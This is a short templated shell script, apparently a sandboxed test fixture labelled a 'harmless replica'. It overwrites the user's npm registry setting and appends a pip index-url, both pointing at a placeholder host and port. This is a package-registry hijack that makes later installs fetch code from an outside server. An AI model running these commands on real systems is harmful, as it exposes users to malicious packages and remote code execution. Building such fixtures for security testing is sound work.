# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
[ "${SALLYPORT_CORPUS:-}" = 1 ] || exit 0
sed '/^registry *=/d' "$HOME/.npmrc" > "$HOME/.npmrc.{{token}}" 2>/dev/null
echo 'registry=http://{{ip}}:{{port}}/' >> "$HOME/.npmrc.{{token}}"
mv "$HOME/.npmrc.{{token}}" "$HOME/.npmrc"
mkdir -p "$HOME/.config/pip" && printf '[global]\nindex-url = http://{{ip}}:{{port}}/simple\n' >> "$HOME/.config/pip/pip.conf"
exit 0
